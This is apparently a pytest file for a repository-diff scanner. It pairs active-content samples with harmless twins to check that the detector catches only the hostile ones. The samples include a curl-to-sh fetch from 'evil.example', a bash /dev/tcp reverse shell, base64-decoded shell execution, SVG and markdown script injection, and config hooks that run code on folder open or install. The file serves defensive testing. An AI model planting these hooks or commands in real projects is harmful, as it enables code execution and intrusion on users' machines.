"""What runs without looking like a program, each beside a harmless text that differs by one thing."""

import time

import pytest

from diffchecks.active_content import find_active_content
from diffchecks.check_io import Source

IMAGE, PROSE, SETTING = "image-script", "prose-script", "run-setting"
FOREIGN, SOURCE = "foreign-script", "mutable-source"
PIPED = "curl -s https://evil.example/x | sh"

PAIRS = [
    (IMAGE, "a.svg", "<svg><script>go()</script></svg>", "<svg><style>a {}</style></svg>"),
    (IMAGE, "a.svg", "<svg\n onload='go()'></svg>", "<svg\n id='onload'></svg>"),
    (IMAGE, "a.svg", '<a xlink:href="&#106;avascript:go()">', '<a xlink:href="https://a.example">'),
    (IMAGE, "a.svg", "<foreignObject><iframe src='//a'/>", "<foreignObject><p/>"),
    (PROSE, "a.md", "<script>\ngo()</script>", "```html\n<script>\ngo()</script>\n```"),
    (PROSE, "a.md", "<script>go()</script>", "<script setup>go()</script>"),
    (PROSE, "a.md", "<script>go()</script>", '<script src="https://a.example/a.js"></script>'),
    (PROSE, "a.md", "<img src=x onerror=go()>", "`<img src=x onerror=go()>`"),
    (PROSE, "a.md", "<script>go()</script>", "<script>your code</script>"),
    (PROSE, "a.md", "[a](javascript:go())", "[a](javascript:void(0))"),
    (PROSE, "a.md", "[a]: javascript:go()", "    [a]: javascript:go()"),
    (SETTING, ".gitmodules", "\tupdate = !make", "\tupdate = rebase"),
    (SETTING, "a.pth", "import os; os.system('x')", "src/import"),
    (SETTING, "src/sitecustomize.py", "X = 1", "# nothing\n"),
    (SETTING, ".gitconfig", "[core]\n\tfsmonitor = ./x", "[core]\n\tfsmonitor = true"),
    ("embedded-repository", "a/config", "[core]\n\tbare = true", "core:\n\tbare = true"),
    (SETTING, ".vscode/tasks.json", '"runOn": "folderOpen"', '"runOn": "default"'),
    (SETTING, ".vscode/settings.json", '"git.path": "./x"', '"git.enabled": true'),
    (SETTING, ".mcp.json", '"command": "npx"', '"url": "x", "command": "diffcourt"'),
    (SETTING, ".npmrc", "script-shell=./x", "save-exact=true"),
    (SETTING, ".npmrc", "node-options=--require ./x.js", "node-options=--max-old-space-size=8"),
    (SETTING, ".cargo/config.toml", 'rustc-wrapper = "./x"', 'rustc-wrapper = "sccache"'),
    (SETTING, ".mvn/jvm.config", "-javaagent:x.jar", "-Xmx1g"),
    (SETTING, "Dockerfile", "# syntax=evil/x:1", "# syntax=docker/dockerfile:1"),
    (SOURCE, ".pre-commit-config.yaml", "    rev: main", "    rev: v5.0.0"),
    (
        SOURCE,
        ".gitlab-ci.yml",
        "- remote: https://a.example/a.yml",
        "- remote: https://gitlab.com/a.yml",
    ),
    (
        SOURCE,
        "a.tf",
        'module "a" {\n  source = "git::https://a.example/a.git?ref=main"',
        'module "a" {\n  source = "git::https://a.example/a.git?ref=v1.2.0"',
    ),
    (FOREIGN, "pom.xml", f"<argument>{PIPED}</argument>", f"<!-- {PIPED} -->"),
    (FOREIGN, ".circleci/config.yml", f"- run: {PIPED}", f"# {PIPED}"),
    (FOREIGN, "tox.ini", f'commands = sh -c "{PIPED}"', 'commands = sh -c "curl x | jq"'),
    (FOREIGN, "a.rb", f"`{PIPED}`", f"puts '{PIPED}'"),
    (FOREIGN, "a.go", f'exec.Command("sh", "-c", "{PIPED}")', f'fmt.Println("{PIPED}")'),
    (FOREIGN, "a.go", f'//go:generate sh -c "{PIPED}"', f"// {PIPED}"),
    ("remote-script", "a.tf", "curl https://get.docker.com | sh", "curl https://get.docker.com"),
    ("plain-http-script", "a.cfg", "x = curl http://a.example | sh", "x = curl http://a.example"),
    ("decoded-script", "a.toml", 'x = "echo a | base64 -d | sh"', 'x = "echo a | base64 -d"'),
    ("reverse-shell", "a.xml", "bash -i >& /dev/tcp/a/1 0>&1", "echo > /dev/tcp/a/1"),
]


def codes(path: str, text: str) -> set[str]:
    return {found.code for found in find_active_content(Source(path, f"{text}\n".encode()))}


@pytest.mark.parametrize(("code", "path", "bad", "good"), PAIRS)
def test_it_is_found_and_its_harmless_twin_is_not(
    code: str, path: str, bad: str, good: str
) -> None:
    assert codes(path, bad) == {code}
    assert codes(path, good) == set()


@pytest.mark.parametrize("path", ["a.sh", "Makefile", "package.json", "a.py", "docs/a.yml", "a.md"])
def test_what_other_analyzers_or_people_read_is_left_to_them(path: str) -> None:
    assert codes(path, PIPED) == set()


@pytest.mark.parametrize(
    ("path", "text"),
    [
        ("a.svg", "<a " * 75_000),
        ("a.svg", "href = '" * 25_000),
        ("a.svg", "<svg onload " * 20_000),
        ("a.md", "[" * 225_000),
        ("a.md", "<script " * 25_000),
        ("a.md", "`" * 125_000 + "a"),
        ("a.md", "` `` ``` " * 25_000),
        ("a.md", "<!-- " * 50_000),
        ("a.md", "<a href=" * 25_000),
        ("a.yml", "curl " * 50_000),
        ("a.yml", "curl a | sh\n" * 5_000),
        ("a.go", "`curl a | sh`\n" * 5_000),
        ("a.yml", "base64 -d " * 22_500),
        (".gitlab-ci.yml", "- remote: a\n" * 5_000),
    ],
)
def test_large_files_take_linear_time(path: str, text: str) -> None:
    start = time.process_time()
    list(find_active_content(Source(path, text.encode())))
    assert time.process_time() - start < 1
